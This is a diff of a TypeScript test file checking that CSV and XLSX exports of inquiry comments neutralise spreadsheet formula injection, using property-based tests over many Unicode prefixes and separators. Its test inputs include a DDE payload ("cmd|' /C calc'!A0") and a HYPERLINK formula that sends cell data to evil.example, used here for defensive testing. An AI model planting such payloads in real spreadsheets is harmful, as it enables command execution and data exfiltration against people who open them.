@@ -1,7 +1,8 @@
 import { buffer, text } from 'node:stream/consumers';
 import fc from 'fast-check';
+import { readXlsx } from 'hucre/xlsx';
 import { describe, expect, it } from 'vitest';
-import { csvOf, jsonOf } from '#infra/inquiries/export-formats.ts';
+import { csvOf, jsonOf, xlsxOf } from '#infra/inquiries/export-formats.ts';
 import type { StoredInquiry } from '#lambda/inquiry/stored-inquiry.ts';
 import { character } from '#test/support/measure/character.ts';
 import { storedInquiry } from './stored-inquiry.ts';
@@ -16,46 +17,119 @@ function cellsOf(csv: string): string[][] {
   return rows.slice(1, -1);
 }
 
+const anyText = fc.string({ unit: character });
+const comments = (texts: readonly string[]) => texts.map((comment) => storedInquiry({ comment }));
+
 /** What a spreadsheet makes of comments. */
-async function cellsOfComments(comments: readonly string[]): Promise<string[]> {
-  const rows = cellsOf(await text(csvOf(comments.map((comment) => storedInquiry({ comment })))));
-  return rows.map((row) => row[5] ?? '');
-}
+const cellsOfComments = async (texts: readonly string[]) =>
+  cellsOf(await text(csvOf(comments(texts)))).map((row) => row[5]);
 
-describe('a cell', () => {
-  const signs = '=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−⁺₌⩵';
-  const starts = [...signs, ' =', '\u00a0=', '\u3000＝', '\u200b=', '\ufeff+', '\u0000=', ' \t @'];
+const signs = '=+-@＝＋－＠﹦﹢﹣﹫−⁺₌⩵≠';
+const starts = [
+  ...signs,
+  ' =',
+  '\t=',
+  '\r=',
+  '\u00a0=',
+  '\u3000＝',
+  '\u200b=',
+  '\ufeff+',
+  '\u0000=',
+  '"=',
+  '\u2800@',
+];
+const separators = [',', ';', '\t', '|', '\n', '\r', '\u2028'];
 
-  it('is text for a spreadsheet, in 300 formulas however they begin', async () => {
+describe('a cell of the CSV', () => {
+  it('is text for a spreadsheet, in 600 formulas however they begin, and after a separator too', async () => {
     const calls = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1)', 'A1'];
-    const formulas = starts.flatMap((start) =>
-      calls.flatMap((called) => [`${start}${called}`, `${start}${called}\n=2`, `${start}${called}\t-1`]),
-    );
-    expect(new Set(formulas).size).toBeGreaterThanOrEqual(300);
-    expect(await cellsOfComments(formulas)).toEqual(formulas.map((formula) => `'${formula}`));
+    const formulas = starts.flatMap((start) => calls.map((called) => start.trim() + called));
+    const texts = formulas.flatMap((formula) => [
+      [formula, `'${formula}`],
+      ...separators.map((separator) => [`a${separator}${formula}`, `a${separator}'${formula}`]),
+    ]);
+    expect(new Set(texts.map(String)).size).toBeGreaterThanOrEqual(600);
+    expect(await cellsOfComments(texts.map(([typed = '']) => typed))).toEqual(texts.map(([, cell]) => cell));
   });
 
-  it('never begins as a formula does, and holds all of the text', async () => {
-    const anything = fc
-      .tuple(fc.constantFrom('', ...starts), fc.string({ unit: character }))
-      .map(([start, rest]) => start + rest);
+  it('never begins as a formula does, whatever separates cells, and holds all of the text', async () => {
+    const part = fc.tuple(fc.constantFrom('', ...separators), fc.constantFrom('', '"', ...starts), anyText);
+    const typed = fc.array(part, { maxLength: 4 }).map((parts) => parts.flat().join(''));
+    const start = /^["\s\p{C}\p{Z}\u2800]*[=+\-@\u2212]/u;
     await fc.assert(
-      fc.asyncProperty(fc.array(anything, { minLength: 1, maxLength: 20 }), async (comments) => {
-        const cells = await cellsOfComments(comments);
-        expect(cells).toHaveLength(comments.length);
-        for (const [i, typed] of comments.entries()) {
-          const cell = cells[i] ?? '';
-          expect(cell.normalize('NFKC').trimStart()).not.toMatch(/^[=+\-@\u2212]/);
-          expect(cell).not.toMatch(/^[\t\r\n]/);
-          expect([typed, `'${typed}`]).toContain(cell);
-        }
-      }),
+      fc.asyncProperty(
+        fc.array(typed, { minLength: 1, maxLength: 20 }),
+        fc.constantFrom(',', ';', '\t', '|'),
+        async (texts, separator) => {
+          const csv = await text(csvOf(comments(texts)));
+          // Whether a program takes quotation marks into account or not, no cell begins elsewhere.
+          for (const cell of csv.split(/[\r\n]/).flatMap((line) => line.split(separator)))
+            expect(cell.normalize('NFKD')).not.toMatch(start);
+          const withoutApostrophes = (list: readonly string[]) => list.map((s) => s.replaceAll("'", ''));
+          expect(withoutApostrophes(cellsOf(csv).map((row) => row[5] ?? ''))).toEqual(
+            withoutApostrophes(texts),
+          );
+        },
+      ),
     );
   });
 
   it('is left alone when it is no formula', async () => {
-    const plain = ["O'Neill", 'a=b', '1-2', 'x@example.com', '', '你好', '🙂 +1', ' a', 'a"b","c\r\nd;e'];
+    const plain = [
+      "O'Neill",
+      'a=b',
+      '1-2',
+      'x@example.com',
+      '',
+      '你好',
+      '🙂 +1',
+      ' a',
+      'a"b","c\r\nd;e',
+      'a, b - c',
+    ];
     expect(await cellsOfComments(plain)).toEqual(plain);
+  });
+});
+
+describe('a workbook', () => {
+  const cellsIn = async (inquiries: readonly StoredInquiry[]) => {
+    const { sheets } = await readXlsx(await buffer(xlsxOf(inquiries)));
+    return sheets[0]?.rows ?? [];
+  };
+
+  it('has the columns of the CSV, all of them text', async () => {
+    const inquiry = storedInquiry({ suspect: ['fast', 'name'], notifiedAt: 't3' });
+    const [header, row] = await cellsIn([inquiry]);
+    expect(header?.join()).toBe((await text(csvOf([]))).trim().replaceAll('"', ''));
+    expect(row).toEqual([
+      ...[inquiry.id, inquiry.receivedAt, inquiry.name, inquiry.email, inquiry.phoneNumber, inquiry.comment],
+      ...['fast name', '', 't3', ''],
+    ]);
+  });
+
+  it('holds every text exactly', async () => {
+    const likeCodes = [
+      '_x0041_',
+      '_x005F_x0041_',
+      '_x000d_',
+      '_x00zz_',
+      '\ufffe',
+      '\uffff',
+      '007',
+      '1e5',
+      '1/2',
+      'TRUE',
+    ];
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.tuple(fc.constantFrom('', ...starts, ...likeCodes), anyText)),
+        async (parts) => {
+          const texts = parts.map((part) => part.join(''));
+          const [, ...rows] = await cellsIn(comments(texts));
+          expect(rows.map((row) => row[5])).toEqual(texts);
+        },
+      ),
+    );
   });
 });
 
